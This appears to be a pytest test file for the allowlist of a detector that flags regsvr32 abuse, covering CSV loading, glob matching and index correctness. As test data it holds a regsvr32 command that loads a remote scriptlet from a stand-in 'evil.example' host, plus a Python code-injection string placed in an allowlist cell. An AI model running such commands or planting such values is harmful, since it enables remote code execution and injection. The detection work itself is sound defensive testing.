"""Allowlist loading (bad rows reported with file and line) and matching semantics."""
import datetime
import io
import random
import re

import pytest

from regsvr32_detector import Detector, load_allowlists
from regsvr32_detector.allowlist import Allowlist, Entry, Glob
from regsvr32_detector.allowlist_columns import COLUMNS, MATCHERS, Facts
from regsvr32_detector.fields import normalize
from support.events import proc

from support.allowlists import HEADER, allowlist_row
from support.events import DEFAULT_ALLOWLIST


@pytest.mark.parametrize("pattern, value, matches", [
    ("*", "anything", True), ("abc", "ABC".lower(), True), ("a?c", "abc", True), ("a?c", "ac", False),
    ("?:\\users\\*\\appdata\\*", "c:\\users\\bob\\appdata\\x.dll", True),
    ("?:\\users\\*\\appdata\\*", "c:\\users\\bob\\x.dll", False),
    ("*.dll", "x.dll", True), ("*.dll", "x.dll.jpg", False), ("a*b*c", "aXbYc", True),
    ("a*b*c", "acb", False), ("*a*a*a*b", "a" * 5000, False), ("ab*ab", "ab", False),
    ("x?y*z", "xqyz", True), ("*q?r*", "aaqxr", True),
])
def test_glob(pattern, value, matches):
    assert Glob(pattern).match(value) is matches


def _load(tmp_path, text, name="list.csv"):
    path = tmp_path / name
    path.write_bytes(text.encode("utf-8") if isinstance(text, str) else text)
    return load_allowlists([str(path)])


@pytest.mark.parametrize("text, line, message", [
    ("", 1, "empty file"),
    ("rule_id,image\n", 1, "no 'reason' column"),
    (HEADER + allowlist_row(rule_id="R32-007", module="*x*"), 2, "empty reason"),
    (HEADER + allowlist_row(module="*x*", reason="r"), 2, "empty rule_id"),
    (HEADER + allowlist_row(rule_id="R32-999", module="*", reason="r"), 2, "unknown rule_id"),
    (HEADER + allowlist_row(rule_id="*", reason="r"), 2, "no matcher column"),
    (HEADER + allowlist_row(rule_id="R32-007", module="a", reason="r", expires="31/12/2027"), 2, "not a date"),
    (HEADER + allowlist_row(rule_id="R32-007", module="a", reason="r") * 2, 3, "duplicate of list.csv:2"),
    (HEADER.strip() + ",colour\n", 1, "column %d 'colour' is not a known column" % (HEADER.count(",") + 2)),
    (HEADER + "R32-007," + ",".join("x" * HEADER.count(",")) + ",extra\n", 2, "cells but the header has"),
])
def test_bad_rows_are_reported_with_file_and_line(tmp_path, text, line, message):
    _, problems = _load(tmp_path, text)
    assert [(p.line, message in p.message) for p in problems][:1] == [(line, True)], problems
    assert str(problems[0]).startswith("list.csv:")


def test_good_rows_apply_next_to_bad_ones(tmp_path):
    text = (HEADER + allowlist_row(rule_id="R32-007", module="*", reason="")
            + allowlist_row(rule_id="R32-007", module="?:\\users\\public\\*", reason="kiosk"))
    allowlist, problems = _load(tmp_path, text)
    assert len(problems) == 1 and len(allowlist) == 1


def test_missing_file_is_a_problem_not_an_exception(tmp_path):
    allowlist, problems = load_allowlists([str(tmp_path / "nope.csv")])
    assert len(allowlist) == 0 and "cannot read" in problems[0].message


def test_bom_and_crlf_are_fine(tmp_path):
    text = (HEADER + allowlist_row(rule_id="R32-007", module="a", reason="r")).replace("\n", "\r\n")
    allowlist, problems = _load(tmp_path, b"\xef\xbb\xbf" + text.encode())
    assert not problems and len(allowlist) == 1


CMD = "regsvr32 /s C:\\Users\\Public\\a.dll"


@pytest.mark.parametrize("row, suppressed", [
    (allowlist_row(rule_id="R32-007", module="?:\\users\\public\\a.dll", reason="r"), True),
    (allowlist_row(rule_id="r32-00?", module="?:\\users\\public\\*", reason="r"), True),
    (allowlist_row(rule_id="R32-006", module="?:\\users\\public\\*", reason="r"), False),  # other rule
    (allowlist_row(rule_id="R32-007", module="?:\\users\\public\\a.dll", host="other", reason="r"), False),
    (allowlist_row(rule_id="R32-007", command_line="regsvr32  /S  c:\\users\\public\\a.dll", reason="r"), True),
    (allowlist_row(rule_id="R32-007", module="C:/Users/Public/*", reason="r"), True),
    (allowlist_row(rule_id="R32-007", module="?:\\users\\public\\*", reason="r", expires="2020-01-01"), False),
    (allowlist_row(rule_id="R32-007", module="?:\\users\\public\\*", reason="r", expires="2099-01-01"), True),
])
def test_matching(tmp_path, row, suppressed):
    allowlist, problems = _load(tmp_path, HEADER + row)
    assert not problems
    verdict = Detector(allowlist, today=datetime.date(2026, 11, 23)).evaluate(proc(CMD))
    assert ("R32-007" not in verdict.rules) is suppressed
    assert any(a.startswith("R32-007 allowlisted: r (list.csv:2)") for a in verdict.allowlisted) is suppressed


def test_every_module_must_match_so_a_decoy_gives_no_cover(tmp_path):
    allowlist, _ = _load(tmp_path, HEADER + allowlist_row(rule_id="*", module="?:\\users\\public\\ok.dll",
                                                          reason="r"))
    both = proc("regsvr32 /s C:\\Users\\Public\\ok.dll C:\\Users\\Public\\evil.dll")
    assert "R32-007" in Detector(allowlist).evaluate(both).rules


def test_regex_and_code_in_cells_are_plain_text(tmp_path):
    allowlist, problems = _load(tmp_path, HEADER + allowlist_row(
        rule_id="R32-007", module="(?i).*__import__('os').system('x')", reason="r"))
    assert not problems
    assert "R32-007" in Detector(allowlist).evaluate(proc(CMD)).rules


# --- matching agrees with a plain translation, '?' next to '*' included ---------------------------
def _reference(pattern, value):
    rx = "".join(".*" if c == "*" else "." if c == "?" else re.escape(c) for c in pattern)
    return re.fullmatch(rx, value, re.S) is not None


@pytest.mark.parametrize("pattern, value, matches", [
    ("*??z*", "abz", True), ("*??z*", "az", False), ("a*?", "a", False), ("a*?", "ab", True),
    ("x*??*y", "xy", False), ("x*??*y", "xaby", True), ("*a?b*", "xxaqbyy", True),
    ("*???*", "ab", False), ("*???*", "abc", True), ("?*?", "a", False), ("*z??", "zab", True),
    ("*z??", "zabz", False), ("*z?*z", "zz", False), ("*z?*z", "zaz", True),
])
def test_question_marks_next_to_stars(pattern, value, matches):
    assert Glob(pattern).match(value) is matches is _reference(pattern, value)


@pytest.mark.parametrize("pattern, text", [("**", "*"), ("*?*?", "??*"), ("a*?b", "a?*b"), ("?", "?"),
                                           ("x**y?z", "x*y?z"), ("*?*", "?*")])
def test_runs_of_wildcards_are_written_one_way(pattern, text):
    assert Glob(pattern).text == text


def test_random_globs_agree_with_the_reference():
    rnd = random.Random(9)
    for _ in range(6000):
        pattern = "".join(rnd.choice("ab*?") for _ in range(rnd.randint(1, 9)))
        value = "".join(rnd.choice("abc") for _ in range(rnd.randint(0, 8)))
        assert Glob(pattern).match(value) is _reference(pattern, value), (pattern, value)


def test_question_marks_by_a_star_are_a_count_not_a_search():
    # * + 4000 ? + z* is one plain search for 'z' that starts 4000 characters on, not a search
    # with 4000 dots at every position of the line (2.9 s per 1 MB).
    glob = Glob("*" + "?" * 4000 + "z*")
    assert glob.match("a" * 5000) is False and glob.match("a" * 4000 + "z") is True
    assert glob.match("a" * 3999 + "z") is False
    first, middles, _ = glob._parts
    assert first[0] == "?" * 4000 and middles == ((0, ("z", None), 0),)


@pytest.mark.parametrize("count, refused", [(32, False), (64, False), (65, True), (4000, True)])
def test_too_many_question_marks_are_refused(tmp_path, count, refused):
    cell = "*" + "?" * count + "z*"
    _, problems = _load(tmp_path, HEADER + allowlist_row(rule_id="R32-007", command_line=cell, reason="r"))
    assert bool(problems) is refused
    if refused:
        assert "'command_line' has %d '?' wildcards; at most 64" % count in str(problems[0])


# --- a row that would clear everything ----------------------------------------------------------
@pytest.mark.parametrize("cells", [{"image": "*"}, {"image": "**"}, {"image": "?*"}, {"user": "*?*"},
                                   {"image": "*", "host": "??*"}])
def test_a_wildcard_rule_with_wildcard_only_cells_is_refused(tmp_path, cells):
    allowlist, problems = _load(tmp_path, HEADER + allowlist_row(rule_id="*", reason="temp", **cells)
                                + allowlist_row(rule_id="R32-00*", reason="temp", **cells))
    assert len(allowlist) == 0 and [p.line for p in problems] == [2, 3]
    assert "any value (wildcards only)" in problems[0].message
    assert "row skipped" in problems[0].message


def test_a_wildcard_only_cell_is_fine_next_to_a_real_one_or_for_one_rule(tmp_path):
    allowlist, problems = _load(tmp_path, HEADER + allowlist_row(rule_id="*", image="*", host="ws-1", reason="r")
                                + allowlist_row(rule_id="R32-007", module="?*", reason="r"))
    assert not problems and len(allowlist) == 2
    assert "R32-007" not in Detector(allowlist).evaluate(proc(CMD)).rules


# --- the index finds exactly the rows a full scan finds -----------------------------------------
PIECES = ["a", "b", "ab", "c:\\x", "\\y", ".dll", "-"]


def _random_cell(rnd):
    out = "".join(rnd.choice(PIECES + ["*", "?", "*"]) for _ in range(rnd.randint(1, 4)))
    return out if out.strip("*?") else out + "a"


def _random_value(rnd):
    return "".join(rnd.choice(PIECES) for _ in range(rnd.randint(1, 5)))


@pytest.mark.parametrize("few", [0, Allowlist.FEW])     # substrings looked up, or searched for
@pytest.mark.parametrize("seed", range(4))
def test_index_agrees_with_a_full_scan(monkeypatch, seed, few):
    monkeypatch.setattr(Allowlist, "FEW", few)
    rnd = random.Random(seed)
    columns = ("image", "module", "host")
    entries = []
    for line in range(2, 300):
        cells = dict((c, _random_cell(rnd)) for c in rnd.sample(columns, rnd.choice([0] + [1, 2, 3] * 9)))
        rule = rnd.choice(["R32-001", "R32-002", "*", "R32-00?"]) if cells else "R32-001"
        glob = dict((c, Glob(v)) for c, v in cells.items())
        entries.append(Entry(Glob(rule), tuple(sorted(glob.items())), "r", "", None, "x.csv", line))
    allowlist = Allowlist(entries)
    today = datetime.date(2026, 1, 1)
    found = 0
    for _ in range(600):
        facts = dict((c, tuple(_random_value(rnd) for _ in range(rnd.choice([0, 1, 1, 2])))) for c in columns)
        rules = rnd.sample(["R32-001", "R32-002", "R32-003"], 2)
        want = {}
        for rule in rules:
            hit = next((e for e in entries if e.rule.match(rule.lower()) and e.matches(facts)), None)
            if hit is not None:
                want[rule] = hit
        assert allowlist.suppress(rules, facts, today) == want, facts
        found += len(want)
    assert 100 < found < 1000         # both answers occur often: the comparison is not vacuous


def test_column_table_drives_header_folding_and_facts():
    # One table: the shipped header is the loader's, and every matcher column has a source of
    # event values. (COLUMNS, MATCHERS and FOLD are all built from MATCHER_TABLE at import.)
    assert COLUMNS[0] == "rule_id"
    with open(DEFAULT_ALLOWLIST, encoding="utf-8") as f:
        assert tuple(f.readline().strip().split(",")) == COLUMNS
    event = normalize(proc("regsvr32 /s /i:http://Evil.example/a.sct C:/Users/Public/A.DLL"))
    facts = Facts(event)
    assert dict((c, facts.get(c)) for c in MATCHERS if facts.get(c)) == {
        "image": ("c:\\windows\\system32\\regsvr32.exe",),
        "parent_image": ("c:\\windows\\system32\\cmd.exe",),
        "command_line": ("regsvr32 /s /i:http://evil.example/a.sct c:/users/public/a.dll",),
        "module": ("c:\\users\\public\\a.dll",), "url_host": ("evil.example",),
        "user": ("corp\\alice",), "host": ("ws01",)}


@pytest.mark.parametrize("seed", range(4))
def test_a_short_list_tested_first_for_its_pieces_agrees_with_a_full_scan(seed):
    # Up to Allowlist.QUICK pieces a column, a value is tested for them before the index: whole
    # cells, starts, ends and substrings, with ? in them; the rows that clear a finding are the
    # ones a scan of every row finds.
    rnd = random.Random(seed)
    alphabet = "ab\\c.1 "
    words = ["".join(rnd.choice(alphabet) for _ in range(rnd.randint(1, 7))) for _ in range(12)]
    entries = []
    for line in range(2, 14):
        parts = rnd.sample(words, rnd.randint(1, 2))
        cell = rnd.choice(["*", "", "?", "?*"]) + "*".join(parts) + rnd.choice(["*", "", "?", "*?"])
        entries.append(Entry(Glob(rnd.choice(["*", "r32-006", "r32-04?"])), (("module", Glob(cell)),),
                             "r", "", None, "x.csv", line))
    allowlist = Allowlist(entries)
    assert "module" in allowlist._quick
    found = 0
    for _ in range(600):
        value = "".join(rnd.choice(words + [rnd.choice(alphabet)]) for _ in range(rnd.randint(1, 4)))
        facts = {"module": (value,)}
        for rule_id in ("R32-006", "R32-048"):
            want = next((e for e in entries if e.rule.match(rule_id.lower()) and e.matches(facts)),
                        None)
            got = allowlist.suppress([rule_id], facts, datetime.date(2026, 1, 1)).get(rule_id)
            assert got is want, (value, rule_id, want and want.line, got and got.line)
            found += want is not None
    assert 20 < found < 1100
